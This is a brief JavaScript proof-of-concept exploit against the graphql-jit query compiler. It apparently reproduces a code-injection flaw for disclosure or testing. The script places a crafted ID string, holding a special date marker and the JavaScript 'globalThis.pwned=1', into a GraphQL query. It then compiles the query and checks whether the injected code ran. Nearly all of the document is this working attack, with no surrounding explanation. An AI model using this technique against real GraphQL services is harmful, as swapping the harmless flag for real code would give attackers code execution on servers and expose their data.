import { buildSchema, parse, validate } from 'graphql';
import { compileQuery } from 'graphql-jit';
const schema = buildSchema('type Query { a(id: ID!): String }');
schema.getQueryType().getFields().a.resolve = (_, a) => String(a.id);
const doc = parse('{ a(id: "__MAGIC_DATE__33a9e76d_02e0_4128_8e92_3530ad3da74dglobalThis.pwned=1") }');
console.log(validate(schema, doc));
const q = compileQuery(schema, doc); console.log(q.query({}, {}, {}), globalThis.pwned);
